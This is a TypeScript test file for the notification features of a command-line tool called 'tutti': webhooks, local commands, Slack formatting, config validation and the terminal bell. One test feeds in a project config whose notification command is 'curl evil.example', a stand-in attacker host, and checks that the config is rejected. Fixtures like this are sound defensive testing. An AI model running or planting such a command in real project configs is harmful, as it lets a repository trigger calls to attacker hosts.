// Notifications of whole runs, from the command line and from a server, and the terminal bell.
import { once } from "node:events";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { startWebhook } from "./notify-lab.ts";
import { tutti, tuttiJson } from "../cli/in-process.ts";
import { Lab } from "../lab/lab.ts";
import { goodWorker, mainSession } from "../lab/scenarios.ts";
import { onTerminal } from "../lab/terminal.ts";
import { openBell } from "../../src/cli/terminal/bell.ts";
import { Output } from "../../src/cli/terminal/output.ts";
import { readProjectConfig, readUserConfig } from "../../src/config/config.ts";
import { startLocalServer } from "../../src/main/local-server.ts";
import { isRunOver } from "../../src/schema/status.ts";

let lab: Lab;
let hook: Awaited<ReturnType<typeof startWebhook>>;
beforeEach(async () => {
  lab = new Lab();
  mkdirSync(lab.data);
  hook = await startWebhook();
});
afterEach(async () => {
  vi.unstubAllEnvs();
  await hook.close();
  lab.tearDown();
});

const writeUserConfig = (notifications: object) =>
  writeFileSync(join(lab.data, "tutti.config.json"), JSON.stringify({ notifications }));
const inside = { allowInternal: true, allowHosts: ["127.0.0.1"] };
const scripted = () => lab.scenario([...mainSession([{ id: "one" }]), goodWorker]);
const run = (...flags: string[]) => ["run", "x", "--cwd", lab.repo, "--agent", scripted(), ...flags];
const here = (args: string[]) => ["--data-dir", lab.data, ...args];
const bodies = () => hook.received.map(({ body }) => JSON.parse(body) as Record<string, unknown>);

/** A command that records its environment and stdin in `file`. */
function recordingCommand(then = ""): { command: string; file: string } {
  const file = join(lab.folder, "kept.jsonl");
  const program = join(lab.folder, "keep.mjs");
  const variables = `Object.fromEntries(Object.entries(process.env).filter(([name]) => name.startsWith("TUTTI_")))`;
  writeFileSync(
    program,
    `import { appendFileSync, readFileSync } from "node:fs";
     appendFileSync(${JSON.stringify(file)}, JSON.stringify({ env: ${variables}, secret: process.env.MY_API_KEY ?? null, stdin: JSON.parse(readFileSync(0, "utf8")) }) + "\\n");
     ${then}`,
  );
  return { command: `${process.execPath} '${program}'`, file };
}

describe("A run of the command line", () => {
  it("notifies a webhook and a command of its end, and not of the plan that a flag confirmed", async () => {
    vi.stubEnv("MY_API_KEY", "canary-canary-canary");
    const { command, file } = recordingCommand();
    writeUserConfig({ ...inside, webhooks: [{ url: hook.url }], command });
    const { code, last } = await tuttiJson<{ id: string }>(here(run("--yes")));
    expect(code).toBe(0);
    const census = expect.objectContaining({ planned: 1, completed: 1 });
    expect(bodies()).toEqual([
      expect.objectContaining({
        version: 1,
        kind: "ended",
        run: last.id,
        request: "x",
        url: null,
        outcome: { verdict: "success", census, usage: expect.objectContaining({ usd: 0.01 }) },
      }),
    ]);
    const kept = readFileSync(file, "utf8").trim().split("\n");
    expect(kept).toHaveLength(1);
    const { env, secret, stdin } = JSON.parse(kept[0]!);
    expect(stdin).toEqual(bodies()[0]);
    expect(secret).toBeNull();
    expect(env).toMatchObject({
      TUTTI_NOTIFY_ID: stdin.id,
      TUTTI_NOTIFY_KIND: "ended",
      TUTTI_NOTIFY_RUN: last.id,
      TUTTI_NOTIFY_TASK: "",
      TUTTI_NOTIFY_TITLE: "The run succeeded",
      TUTTI_NOTIFY_TEXT: "1 planned, 1 completed; $0.01; 120 tokens",
      TUTTI_NOTIFY_URL: "",
    });
  });

  it("that stops at an unconfirmed plan notifies of it, and only warns if a delivery fails", async () => {
    writeUserConfig({ ...inside, webhooks: [{ url: hook.url }], command: "/nowhere/to/be-found" });
    const { code, stderr } = await tutti(here(run()));
    expect(code).toBe(4);
    expect(bodies()).toMatchObject([{ kind: "needs_person", item: { kind: "plan" } }]);
    expect(stderr).toMatch(/warning: Notification failed: command: orch_\w+:\d+ could not be delivered: .*ENOENT/);
  });
});

describe("A server", () => {
  it("sends a link to the waiting item and rings the bell, and repeats nothing after a restart", async () => {
    writeUserConfig({ ...inside, webhooks: [{ url: hook.url, format: "slack" }] });
    let rung = 0;
    const bell = () => void rung++;
    const options = { dataDir: lab.data, port: 0, host: "127.0.0.1", version: "0.0.0", bell };
    const server = await startLocalServer(options);
    const { id } = await server.engine.create({
      templateId: "_default",
      cwd: lab.repo,
      message: "x",
      agent: scripted(),
    });
    await server.engine.order(id, "start");
    await hook.until(1);
    const { url } = server;
    await server.close({ leaveRunning: false });
    expect((bodies()[0] as { text: string }).text).toContain(`<${url}/runs/${id}|${id}>`);

    const next = await startLocalServer(options);
    await next.engine.order(id, "confirm");
    await next.engine.until(id, ({ status }) => isRunOver(status));
    await hook.until(2);
    await next.close({ leaveRunning: false });
    const texts = bodies().map(({ text }) => String(text).split("\n")[0]);
    expect(texts).toEqual(["*A plan waits to be confirmed*", "*The run succeeded*"]);
    expect(rung).toBe(2);
  });
});

describe("tutti notify test", () => {
  it("notifies every target once and prints each result: exit 0, or 1 if a delivery failed", async () => {
    const { command, file } = recordingCommand();
    writeUserConfig({ ...inside, webhooks: [{ url: hook.url }], command });
    expect(await tutti(here(["notify", "test"]))).toEqual({
      code: 0,
      stdout: `sent  webhook 127.0.0.1:${hook.port}: answered 200\nsent  command: exited with code 0\n`,
      stderr: "",
    });
    expect(bodies()).toMatchObject([{ kind: "test", run: "" }]);
    expect(existsSync(file)).toBe(true);

    const webhooks = [{ url: hook.url, secretEnv: "NOT_SET_ANYWHERE" }, { url: "https://hooks.example.org/secret" }];
    writeUserConfig({ ...inside, webhooks, command: `${command} 'unclosed` });
    const { code, last } = await tuttiJson(here(["notify", "test"]));
    expect([code, last["ok"]]).toEqual([1, false]);
    expect((last["targets"] as { detail: string }[]).map(({ detail }) => detail)).toEqual([
      "the environment variable NOT_SET_ANYWHERE with the secret is not set",
      "hooks.example.org is not among notifications.allowHosts",
      expect.stringContaining("an unclosed quote"),
    ]);
    expect(JSON.stringify(last)).not.toContain("org/secret");
  });

  it("waits for the result in a process that has nothing else to do", async () => {
    writeUserConfig({ command: recordingCommand().command });
    const { code, stdout } = await lab.tutti(["notify", "test"]);
    expect([code, stdout]).toEqual([0, "sent  command: exited with code 0\n"]);
  });

  it("reports that no target is configured: exit 2", async () => {
    const { code, last } = await tuttiJson<{ error: { message: string } }>(here(["notify", "test"]));
    expect([code, last.error.message]).toEqual([2, expect.stringContaining("No notification targets are configured")]);
  });
});

describe("The configuration", () => {
  it("of a project cannot set notification targets", () => {
    lab.write("tutti.config.json", JSON.stringify({ notifications: { command: "curl evil.example" } }));
    expect(() => readProjectConfig(lab.repo)).toThrow("unknown setting notifications");
  });

  it("is rejected with the path of the wrong setting, without its URL", () => {
    writeUserConfig({ webhooks: [{ url: "http://hooks.example.org/secret" }] });
    expect(() => readUserConfig(lab.data)).toThrow("notifications.webhooks.0.url: must begin with https://");
    expect(() => readUserConfig(lab.data)).not.toThrow("secret");
  });

  it("is checked by tutti doctor: a host that is not allowed, and a secret that is not set", async () => {
    const webhooks = [{ url: "https://hooks.example.org/secret" }, { url: hook.url, secretEnv: "NOT_SET_ANYWHERE" }];
    writeUserConfig({ ...inside, webhooks });
    const { code, last } = await tuttiJson<{ checks: { name: string; status: string; found: string }[] }>(
      here(["doctor"]),
    );
    expect(code).toBe(0);
    expect(last.checks.filter(({ name }) => name === "notifications")).toMatchObject([
      { status: "warning", found: "webhook: hooks.example.org is not among notifications.allowHosts" },
      { status: "warning", found: expect.stringContaining("NOT_SET_ANYWHERE is not set") },
    ]);
    expect(hook.received).toEqual([]);
  });
});

describe("The terminal bell", () => {
  it("rings once for the waiting plan and once for the end of the run", async () => {
    const child = onTerminal(here(run()));
    let shown = "";
    let typed = false;
    child.stdout.on("data", (text: string) => {
      shown += text;
      if (typed || !shown.includes("Carry out this plan?")) return;
      typed = true;
      child.stdin.write("y");
    });
    const [code] = (await once(child, "close")) as [number];
    expect([code, shown.includes("success: 1 planned")]).toEqual([0, true]);
    expect(shown.split("\u0007")).toHaveLength(3);
  });

  it("is silent with --quiet and --json, for a repeated id, and for kinds that the user turned off", () => {
    const { isTTY } = process.stdout;
    process.stdout.isTTY = true;
    const written = vi.spyOn(process.stdout, "write").mockReturnValue(true);
    const rings = (flags: object = {}): number => {
      written.mockClear();
      const ring = openBell(new Output({ dataDir: lab.data, ...flags }));
      for (const about of ["a", "b", "a"]) ring("needs_person", about);
      ring("ended", "c");
      return written.mock.calls.filter(([text]) => text === "\u0007").length;
    };
    try {
      expect([rings(), rings({ quiet: true }), rings({ json: true })]).toEqual([3, 0, 0]);
      writeUserConfig({ on: ["ended"] });
      expect(rings()).toBe(1);
      writeUserConfig({ bell: false });
      expect(rings()).toBe(0);
    } finally {
      process.stdout.isTTY = isTTY;
      written.mockRestore();
    }
  });
});
